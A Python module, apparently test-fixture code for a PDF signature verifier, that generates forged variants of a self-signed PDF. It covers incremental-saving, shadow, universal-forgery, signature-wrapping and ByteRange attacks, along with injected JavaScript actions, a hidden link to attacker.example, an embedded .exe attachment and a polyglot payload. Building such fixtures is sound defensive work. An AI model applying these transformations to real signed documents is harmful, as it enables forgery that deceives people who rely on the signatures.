"""Published attacks on signed PDFs, made from a file that we signed ourselves.

Kinds: incremental saving, wrapping, universal forgery (pdf-insecurity.org, 2019), shadow documents (2020/21),
certification attacks (2021), tricks with /ByteRange, and changes that the picture of the pages does not show. Each
function takes the signed file and gives the attacked one.
"""

import io
import re
from collections.abc import Callable
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name as name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Attack = Callable[[bytes], bytes]


def _dictionary(**entries: Any) -> generic.DictionaryObject:
    return generic.DictionaryObject({name(f"/{key}"): value for key, value in entries.items()})


def _numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(value) for value in values])


def _stream(data: bytes, **entries: Any) -> generic.StreamObject:
    return generic.StreamObject({name(f"/{key}"): value for key, value in entries.items()}, stream_data=data)


def _script(code: str = "app.alert(1)") -> generic.DictionaryObject:
    return _dictionary(S=name("/JavaScript"), JS=generic.pdf_string(code))


def updated(signed: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """An incremental update in which `change` was made."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: IncrementalPdfFileWriter) -> Any:
    return writer.root["/Pages"]["/Kids"][0]


def _on_page(key: str, make: Callable[[IncrementalPdfFileWriter], Any]) -> Attack:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        page[name(key)] = make(writer)
        writer.update_container(page)

    return lambda signed: updated(signed, change)


def _in_catalogue(key: str, make: Callable[[IncrementalPdfFileWriter], Any]) -> Attack:
    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root[name(key)] = make(writer)
        writer.update_root()

    return lambda signed: updated(signed, change)


def _annotation(**entries: Any) -> Attack:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        one = _dictionary(Type=name("/Annot"), F=generic.NumberObject(4), **entries)
        if "/Annots" in page:
            page["/Annots"].append(writer.add_object(one))
            writer.update_container(page["/Annots"])
        else:
            page[name("/Annots")] = generic.ArrayObject([writer.add_object(one)])
        writer.update_container(page)

    return lambda signed: updated(signed, change)


def _covering(writer: IncrementalPdfFileWriter) -> Any:
    box = _numbers(0, 0, 300, 40)
    form = _stream(b"1 1 1 rg 0 0 300 40 re f", Type=name("/XObject"), Subtype=name("/Form"), BBox=box)
    return writer.add_object(form)


def _whited_annotation(signed: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        one = _dictionary(
            Type=name("/Annot"),
            Subtype=name("/Stamp"),
            Rect=_numbers(250, 410, 400, 450),
            F=generic.NumberObject(4),
            AP=_dictionary(N=_covering(writer)),
        )
        page.setdefault(name("/Annots"), generic.ArrayObject()).append(writer.add_object(one))
        writer.update_container(page)

    return updated(signed, change)


def _empty_field_over_text(signed: bytes) -> bytes:
    """A signature field without signature, whose appearance hides the text (certification attack, sneaky)."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        one = _dictionary(
            Type=name("/Annot"),
            Subtype=name("/Widget"),
            FT=name("/Sig"),
            T=generic.pdf_string("Later"),
            Rect=_numbers(250, 410, 400, 450),
            F=generic.NumberObject(4),
            AP=_dictionary(N=_covering(writer)),
        )
        reference = writer.add_object(one)
        page.setdefault(name("/Annots"), generic.ArrayObject()).append(reference)
        writer.root["/AcroForm"]["/Fields"].append(reference)
        writer.update_container(page)
        writer.update_container(page["/Annots"])
        writer.update_container(writer.root["/AcroForm"])
        writer.update_container(writer.root["/AcroForm"]["/Fields"])

    return updated(signed, change)


def _new_font(writer: IncrementalPdfFileWriter) -> Any:
    font = _dictionary(Type=name("/Font"), Subtype=name("/Type1"), BaseFont=name("/Symbol"))
    return _dictionary(Font=_dictionary(F=writer.add_object(font)))


def _readable_otherwise(writer: IncrementalPdfFileWriter) -> Any:
    """The same picture, but who copies or searches the text gets another number."""
    mapping = b"1 beginbfchar <31> <0039> endbfchar"
    font = _dictionary(
        Type=name("/Font"),
        Subtype=name("/Type1"),
        BaseFont=name("/Helvetica"),
        ToUnicode=writer.add_object(_stream(mapping)),
    )
    return _dictionary(Font=_dictionary(F=writer.add_object(font)))


def _attachment(writer: IncrementalPdfFileWriter) -> Any:
    stream = writer.add_object(_stream(b"MZ", Type=name("/EmbeddedFile")))
    spec = _dictionary(Type=name("/Filespec"), F=generic.pdf_string("a.exe"), EF=_dictionary(F=stream))
    names = generic.ArrayObject([generic.pdf_string("a.exe"), writer.add_object(spec)])
    return _dictionary(EmbeddedFiles=_dictionary(Names=names))


def _layers(writer: IncrementalPdfFileWriter) -> Any:
    group = writer.add_object(_dictionary(Type=name("/OCG"), Name=generic.pdf_string("hidden")))
    return _dictionary(OCGs=generic.ArrayObject([group]), D=_dictionary(OFF=generic.ArrayObject([group])))


def _another_tree(writer: IncrementalPdfFileWriter) -> Any:
    """Hide and replace: the catalogue leads to other pages."""
    old = _page(writer)
    content = writer.add_object(_stream(b"BT /F 20 Tf 297 421 Td (9000) Tj ET"))
    page = generic.DictionaryObject(dict(old))
    page[name("/Contents")] = content
    tree = _dictionary(Type=name("/Pages"), Count=generic.NumberObject(1))
    reference = writer.add_object(tree)
    page[name("/Parent")] = reference
    tree[name("/Kids")] = generic.ArrayObject([writer.add_object(page)])
    return reference


def _other_content(writer: IncrementalPdfFileWriter) -> Any:
    return writer.add_object(_stream(b"BT /F 20 Tf 297 421 Td (9000) Tj ET"))


def _further_content(writer: IncrementalPdfFileWriter) -> Any:
    old = _page(writer).raw_get("/Contents")
    return generic.ArrayObject([old, writer.add_object(_stream(b"0 g 10 10 30 30 re f"))])


def _in_place(signed: bytes) -> bytes:
    """The content stream itself is overwritten by an object of the same number."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        reference = _page(writer).raw_get("/Contents").reference
        old = _page(writer)["/Contents"]
        old._data = old._encoded_data = None
        fresh = _stream(b"BT /F 20 Tf 297 421 Td (9000) Tj ET")
        writer.objects[reference.generation, reference.idnum] = fresh

    return updated(signed, change)


def _signature(writer: IncrementalPdfFileWriter) -> Any:
    return writer.root["/AcroForm"]["/Fields"][-1]["/V"]


def _on_signature(key: str, value: Any) -> Attack:
    """Universal forgery: the dictionary of the signature without what makes it one."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        signature = _signature(writer)
        if value is None:
            del signature[key]
        else:
            signature[name(key)] = value
        writer.update_container(signature)

    return lambda signed: updated(signed, change)


def _form_twice(signed: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root[name("/AcroForm")] = writer.add_object(_dictionary(Fields=generic.ArrayObject()))
        writer.update_root()

    return updated(signed, change)


def _renamed_reason(signed: bytes) -> bytes:
    return _on_signature("/Reason", generic.pdf_string("approved"))(signed)


def _more_pages(signed: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        pages = writer.root["/Pages"]
        page = _dictionary(Type=name("/Page"), Parent=writer.root.raw_get("/Pages"), MediaBox=_numbers(0, 0, 10, 10))
        pages["/Kids"].append(writer.add_object(page))
        pages[name("/Count")] = generic.NumberObject(len(pages["/Kids"]))
        writer.update_container(pages)
        writer.update_container(pages["/Kids"])

    return updated(signed, change)


def _field(**entries: Any) -> Attack:
    """A change of the text field "amount" that the sample has."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        for field in writer.root["/AcroForm"]["/Fields"]:
            if field.get_object().get("/T") == "amount":
                for key, value in entries.items():
                    field.get_object()[name(f"/{key}")] = value(writer) if callable(value) else value
                writer.update_container(field.get_object())

    return lambda signed: updated(signed, change)


def _shown(writer: IncrementalPdfFileWriter) -> Any:
    data = b"/Tx BMC BT /F 12 Tf 2 4 Td (9000) Tj ET EMC"
    box = _numbers(0, 0, 100, 20)
    return _dictionary(N=writer.add_object(_stream(data, Type=name("/XObject"), Subtype=name("/Form"), BBox=box)))


UPDATES: dict[str, Attack] = {
    "isa-other-content": _on_page("/Contents", _other_content),
    "isa-content-in-place": _in_place,
    "isa-further-content": _on_page("/Contents", _further_content),
    "isa-added-page": _more_pages,
    "shadow-replace-font": _on_page("/Resources", _new_font),
    "shadow-hide-and-replace": _in_catalogue("/Pages", _another_tree),
    "shadow-cover-by-annotation": _whited_annotation,
    "shadow-value-not-shown": _field(V=generic.pdf_string("9000")),
    "shadow-shown-not-value": _field(AP=_shown),
    "text-reads-otherwise": _on_page("/Resources", _readable_otherwise),
    "rotated": _on_page("/Rotate", lambda _: generic.NumberObject(180)),
    "cropped": _on_page("/CropBox", lambda _: _numbers(0, 0, 595, 300)),
    "larger-unit": _on_page("/UserUnit", lambda _: generic.NumberObject(2)),
    "annotation": _annotation(Subtype=name("/Square"), Rect=_numbers(250, 410, 400, 450)),
    "annotation-unseen": _annotation(
        Subtype=name("/Link"),
        Rect=_numbers(250, 410, 400, 450),
        Border=_numbers(0, 0, 0),
        A=_dictionary(S=name("/URI"), URI=generic.pdf_string("http://attacker.example")),
    ),
    "certified-sneaky-field": _empty_field_over_text,
    "open-action": _in_catalogue("/OpenAction", lambda _: _script()),
    "catalogue-action": _in_catalogue("/AA", lambda _: _dictionary(WS=_script())),
    "page-action": _on_page("/AA", lambda _: _dictionary(O=_script())),
    "named-script": _in_catalogue(
        "/Names",
        lambda _: _dictionary(JavaScript=_dictionary(Names=generic.ArrayObject([generic.pdf_string("a"), _script()]))),
    ),
    "attachment": _in_catalogue("/Names", _attachment),
    "layers": _in_catalogue("/OCProperties", _layers),
    "outline": _in_catalogue("/Outlines", lambda _: _dictionary(Type=name("/Outlines"), Count=generic.NumberObject(0))),
    "usf-no-contents": _on_signature("/Contents", None),
    "usf-null-contents": _on_signature("/Contents", generic.NullObject()),
    "usf-zero-contents": _on_signature("/Contents", generic.ByteStringObject(b"\0")),
    "usf-no-byte-range": _on_signature("/ByteRange", None),
    "usf-null-byte-range": _on_signature("/ByteRange", generic.NullObject()),
    "usf-negative-byte-range": _on_signature("/ByteRange", _numbers(0, -1, -1, 5)),
    "usf-huge-byte-range": _on_signature("/ByteRange", _numbers(0, 10**9, 10**12, 10**15)),
    "usf-short-byte-range": _on_signature("/ByteRange", _numbers(0, 100)),
    "usf-no-subfilter": _on_signature("/SubFilter", None),
    "replaced-reason": _renamed_reason,
    "second-form": _form_twice,
}


def _range(signed: bytes) -> tuple[int, int, int, int]:
    found = re.findall(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)", signed)[-1]
    start, length, resume, rest = (int(one) for one in found)
    return start, length, resume, rest


def _with_range(signed: bytes, *numbers: int) -> bytes:
    """The numbers exchanged in place; the digest breaks too, so that only the reason tells."""
    match = list(re.finditer(rb"/ByteRange\s*\[[^]]*\]", signed))[-1]
    words = b"/ByteRange [" + b" ".join(b"%d" % one for one in numbers) + b"]"
    return signed[: match.start()] + words.ljust(len(match.group()))[: len(match.group())] + signed[match.end() :]


def _wrapped(signed: bytes) -> bytes:
    """Signature wrapping: the end of what is signed is moved away and other content stands in between."""
    _, length, resume, rest = _range(signed)
    smuggled = b"\n99 0 obj\n<< /Type /Catalog >>\nendobj\n"
    moved = signed[:resume] + smuggled + signed[resume:]
    return _with_range(moved, 0, length, resume + len(smuggled), rest)


def _gap(signed: bytes) -> bytes:
    _, length, resume, rest = _range(signed)
    return _with_range(signed, 0, length - 40, resume, rest)


def _overlap(signed: bytes) -> bytes:
    _, length, resume, rest = _range(signed)
    return _with_range(signed, 0, resume, length, rest)


def _from_later(signed: bytes) -> bytes:
    _, length, resume, rest = _range(signed)
    return _with_range(signed, 8, length - 8, resume, rest)


def _past_the_end(signed: bytes) -> bytes:
    _, length, resume, rest = _range(signed)
    return _with_range(signed, 0, length, resume, rest + 9)


def _not_hexadecimal(signed: bytes) -> bytes:
    _, length, _, _ = _range(signed)
    return signed[: length + 1] + b"ZZ" + signed[length + 3 :]


def _value_in_gap(signed: bytes) -> bytes:
    """The string of the value ends early, and an object stands behind it, in the bytes that nobody signed."""
    _, length, resume, _ = _range(signed)
    behind = b"> /Contents <00"
    return signed[: resume - 1 - len(behind)] + behind + signed[resume - 1 :] if resume - length > 40 else signed


def _loop(signed: bytes) -> bytes:
    """/Prev points at the section itself."""
    at = len(signed) + 1
    size = max(int(one) for one in re.findall(rb"/Size\s+(\d+)", signed))
    root = re.findall(rb"/Root\s+(\d+ \d+ R)", signed)[-1]
    trailer = b"xref\n0 0\ntrailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, at, at)
    return signed + b"\n" + trailer


def _overridden_without_xref(signed: bytes) -> bytes:
    """Objects of the same numbers, whose section of cross-references is broken: each program repairs it differently."""
    root = re.findall(rb"/Root\s+(\d+) \d+ R", signed)[-1]
    return signed + b"\n%s 0 obj\n<< /Type /Catalog >>\nendobj\nstartxref\n7\n%%%%EOF\n" % root


def _polyglot(signed: bytes) -> bytes:
    return signed + b"PK\x03\x04" + b"\0" * 40 + b"<script>alert(1)</script>"


BYTES: dict[str, Attack] = {
    "wrapping": _wrapped,
    "byte-range-gap": _gap,
    "byte-range-overlap": _overlap,
    "byte-range-from-later": _from_later,
    "byte-range-past-the-end": _past_the_end,
    "contents-not-hexadecimal": _not_hexadecimal,
    "contents-twice": _value_in_gap,
    "previous-loop": _loop,
    "override-without-xref": _overridden_without_xref,
    "polyglot": _polyglot,
    "cut": lambda signed: signed[:-200],
    "prefix": lambda signed: b"#!/bin/sh\n" + signed,
}
